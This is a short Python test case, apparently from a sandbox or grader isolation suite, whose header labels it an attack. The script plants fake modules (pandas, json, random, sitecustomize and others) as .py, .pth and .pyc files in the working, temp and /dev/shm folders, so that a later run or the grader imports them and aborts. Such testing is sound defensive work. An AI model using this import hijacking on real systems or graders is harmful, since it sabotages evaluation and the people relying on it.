# Attack: plants modules that a next run or the grader might import
# Verdicts: ok
# Prints: ^planted$
# Cheap: yes
import os
import tempfile

for folder in (".", tempfile.gettempdir(), "/dev/shm"):
    os.makedirs(f"{folder}/__pycache__", exist_ok=True)
    for name in ("pandas", "random", "json", "sitecustomize", "usercustomize", "attack", "decimal"):
        for path in (f"{folder}/{name}.py", f"{folder}/{name}.pth", f"{folder}/__pycache__/{name}.cpython-311.pyc"):
            with open(path, "w") as file:
                file.write("print('PLANTED'); raise SystemExit(5)")
print("planted")
